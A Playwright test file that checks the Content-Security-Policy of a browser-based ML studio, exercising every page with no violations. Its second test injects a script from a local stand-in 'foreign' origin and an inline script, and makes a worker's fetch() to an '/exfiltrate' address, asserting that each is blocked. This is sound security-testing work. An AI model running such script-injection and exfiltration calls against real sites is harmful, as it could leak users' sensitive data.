import { readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { test, expect } from './fixtures'
import { PredictPage } from './pages/PredictPage'
import { SAMPLE_DIR, type StudioPage } from './pages/StudioPage'
import { watchCspViolations, type Violation } from './support/csp-violations'
import { freePort } from './support/servers'

/**
 * The built studio under its Content-Security-Policy (the preview server sends
 * it as a header, index.html carries it as a meta tag): every page works with
 * no violation, and what the policy exists to stop is stopped.
 */

test.setTimeout(480_000)

/** The header and the first `n - 1` data rows of a sample CSV, as text. */
function firstLines(file: string, n: number): string {
  return `${readFileSync(`${SAMPLE_DIR}${file}`, 'utf8').split(/\r?\n/).slice(0, n).join('\n')}\n`
}

/** The first data row of a sample CSV as a record (column name → text). */
function firstRecord(file: string): Record<string, string> {
  const [header, row] = firstLines(file, 2).split('\n')
  const cells = row.split(',')
  return Object.fromEntries(header.split(',').map((name, i) => [name, cells[i]]))
}

/** Trains the family chosen on the Train page and waits until the run has ended. */
async function trainFamily(studio: StudioPage, family: string): Promise<void> {
  const { page } = studio
  await page.getByLabel('Model family').selectOption({ label: family })
  await page.getByRole('button', { name: 'Train model' }).click()
  await expect(page.getByRole('list', { name: 'Runs in progress' })).toHaveCount(0, { timeout: 180_000 })
  await expect(page.getByRole('alert')).toHaveCount(0)
}

test('the policy is sent and every page works under it with no violation, in the page or its workers', async ({ studio, page }) => {
  const violations = await watchCspViolations(page)
  const response = await page.goto('/')
  const header = response!.headers()['content-security-policy']
  expect(header).toContain("script-src 'self' 'wasm-unsafe-eval'")
  expect(header).toContain("frame-ancestors 'none'")
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
  // The meta tag is the header without frame-ancestors, which browsers ignore in a meta policy.
  expect(`${meta}; frame-ancestors 'none'`).toBe(header)
  // COOP + COEP: the page is cross-origin isolated, so tree fits may share memory between threads.
  expect(response!.headers()['cross-origin-opener-policy']).toBe('same-origin')
  expect(response!.headers()['cross-origin-embedder-policy']).toBe('require-corp')
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true)

  // Data: the profile, a column's full chart, the correlation heatmap.
  await studio.expectDataset('parkinsons.csv', '2,105', '35')
  await page.getByRole('button', { name: 'Age: show details' }).click()
  const chart = page.getByRole('img', { name: 'Distribution of Age' }).filter({ has: page.locator('svg') })
  await expect(chart).toBeVisible()
  // plotly's own "save as PNG" (the button below each chart) draws through data: and blob: images.
  const [download] = await Promise.all([page.waitForEvent('download', { timeout: 30_000 }), page.getByRole('button', { name: 'Save as PNG: Distribution of Age' }).click()])
  expect(download.suggestedFilename()).toMatch(/\.png$/)
  // No mode bar, so no "Share chart" that would send the chart's data to a plotly server.
  await expect(chart.locator('[data-title="Share chart..."]')).toHaveCount(0)

  // Clean: the proposed recipe, with its live counts.
  await studio.openSection('Clean')
  await page.getByRole('button', { name: 'Add all suggestions' }).click()
  await expect(page.getByTestId('cleaned-size')).toBeVisible()

  // Train: every family, the neural net on WebAssembly (this Chromium has no WebGPU adapter).
  await studio.openSection('Train')
  for (const family of ['Logistic regression', 'Decision tree', 'Random forest', 'Gradient boosting', 'Neural network (MLP)']) await trainFamily(studio, family)
  await expect(page.getByRole('region', { name: 'Results' })).toContainText('tfjs backend: wasm')
  // Linear regression needs a numeric target.
  await studio.openSection('Data')
  await studio.chooseTarget('UPDRS')
  await expect(page.getByLabel('Task')).toHaveValue('regression')
  await studio.openSection('Train')
  await trainFamily(studio, 'Linear regression')
  await studio.openSection('Data')
  await studio.chooseTarget('Diagnosis')

  // Evaluate: a 5-fold cross-validation with its charts.
  await studio.openSection('Train')
  await page.getByLabel('Model family').selectOption({ label: 'Logistic regression' })
  await studio.openSection('Evaluate')
  await page.getByRole('button', { name: /^Cross-validate/ }).click()
  await expect(page.getByRole('table', { name: 'Cross-validated metrics' })).toContainText('ROC AUC', { timeout: 120_000 })

  // Runs: a comparison (its overlaid ROC curves and parallel coordinates), then register a model.
  await studio.openSection('Runs')
  const table = studio.runsTable()
  for (const family of ['Logistic regression', 'Random forest', 'Gradient boosting']) {
    await table.getByRole('row').filter({ hasText: family }).first().getByRole('checkbox', { name: /^Compare the/ }).check()
  }
  await page.getByRole('button', { name: 'Compare 3 selected' }).click()
  await expect(page.getByRole('table', { name: 'Run comparison' })).toBeVisible()
  // The charts under the table are drawn once scrolled to, as a user reading down would.
  await page.getByRole('table', { name: 'Run comparison' }).evaluate((table) => table.scrollIntoView({ block: 'start' }))
  await expect(page.getByRole('img', { name: 'Overlaid ROC curves of the compared runs' })).toBeVisible()
  // Parallel coordinates are drawn with WebGL: plotly's strict build, with no code compiled at run time.
  await expect(page.getByRole('img', { name: /Parallel coordinates/ }).locator('canvas').first()).toBeAttached()
  await page.getByRole('button', { name: 'Close comparison' }).click()
  await table.getByRole('button', { name: /^Open the Gradient boosting run/ }).first().click()
  await page.getByLabel('Register this model as').fill('Parkinson screening')
  await page.getByRole('button', { name: 'Register model' }).click()
  await expect(page.getByText('Registered as version 1 of "Parkinson screening"')).toBeVisible()

  // Registry, and its export for the model server (made in the predict worker).
  await studio.openSection('Registry')
  await expect(page.getByRole('table', { name: 'Versions of Parkinson screening' })).toBeVisible()
  await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export version 1 of Parkinson screening for the server' }).click()])
  await expect(page.getByRole('region', { name: 'Serving Parkinson screening' })).toBeVisible()

  // Predict: the predict worker, the form's answer with its waterfall chart, a scored file.
  await studio.openSection('Predict')
  const predict = new PredictPage(page)
  await predict.expectModelLoaded()
  await predict.fill(firstRecord('parkinsons.csv'))
  await predict.predict()
  await expect(predict.waterfall().locator('svg').first()).toBeVisible()
  await predict.dropBatchFile('three.csv', Buffer.from(firstLines('parkinsons.csv', 4)))
  await expect(predict.predictionsTable()).toBeVisible()

  expect(violations).toEqual([] as Violation[])
})

interface ForeignServer {
  origin: string
  requests: string[]
  close: () => Promise<void>
}

/** A server on another origin that counts what it is asked for. */
async function startForeignServer(): Promise<ForeignServer> {
  const requests: string[] = []
  const server: Server = createServer((request, response) => {
    requests.push(request.url ?? '')
    response.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' })
    response.end('window.injected = "from another origin"')
  })
  const port = await freePort()
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve))
  return { origin: `http://127.0.0.1:${port}`, requests, close: () => new Promise((resolve) => server.close(() => resolve())) }
}

const injection = test.extend<{ other: ForeignServer }>({
  other: async ({}, use) => {
    const server = await startForeignServer()
    await use(server)
    await server.close()
  },
  // Chromium reports the requests it then refuses; the other server's own count shows none was sent.
  allowedForeignUrls: async ({ other }, use) => use([`${other.origin}/x.js`, `${other.origin}/exfiltrate`]),
  // ...and logs each refusal as a console error.
  allowedConsoleErrors: async ({ other }, use) => {
    const address = (path: string) => `${other.origin}${path}`.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')
    await use([
      new RegExp(`^Loading the script '${address('/x.js')}' violates the following Content Security Policy`),
      /^Executing inline script violates the following Content Security Policy/,
      new RegExp(`^Connecting to '${address('/exfiltrate')}' violates the following Content Security Policy`),
    ])
  },
})

injection('a script from another origin and an inline script are refused and reported; a worker cannot reach another origin', async ({ studio, page, other }) => {
  const violations = await watchCspViolations(page)
  await studio.goto()
  await studio.expectDataset('parkinsons.csv', '2,105', '35')

  await page.evaluate((src) => {
    const foreign = document.createElement('script')
    foreign.src = src
    document.head.append(foreign)
    const inline = document.createElement('script')
    inline.textContent = 'window.injected = "inline"'
    document.head.append(inline)
  }, `${other.origin}/x.js`)
  // Each refusal is reported once per policy (the header and the meta tag both enforce one).
  await expect.poll(() => violations.filter((v) => v.where === 'page' && v.blocked === `${other.origin}/x.js`).length).toBeGreaterThan(0)
  await expect.poll(() => violations.filter((v) => v.where === 'page' && v.blocked === 'inline').length).toBeGreaterThan(0)
  const events = violations.filter((v) => !v.where.endsWith('console'))
  expect(new Set(events.map((v) => `${v.where} ${v.directive} ${v.blocked}`))).toEqual(
    new Set([`page script-src-elem ${other.origin}/x.js`, 'page script-src-elem inline']),
  )
  expect(await page.evaluate(() => (window as unknown as { injected?: string }).injected)).toBeUndefined()

  // The data worker holds the patient table: the policy binds it too (an http:// address elsewhere is neither 'self' nor https:).
  const dataWorker = page.workers().find((w) => /data\.worker/.test(w.url()))!
  const outcome = await dataWorker.evaluate((url) => fetch(url).then(() => 'sent', (error: Error) => `refused: ${error.message}`), `${other.origin}/exfiltrate`)
  expect(outcome).toMatch(/^refused/)
  await expect.poll(() => violations.some((v) => v.where.startsWith('worker data') && v.directive === 'connect-src' && v.blocked === `${other.origin}/exfiltrate`)).toBe(true)

  // The browser refused before asking: the other origin never heard from the page or its workers.
  expect(other.requests).toEqual([])
})
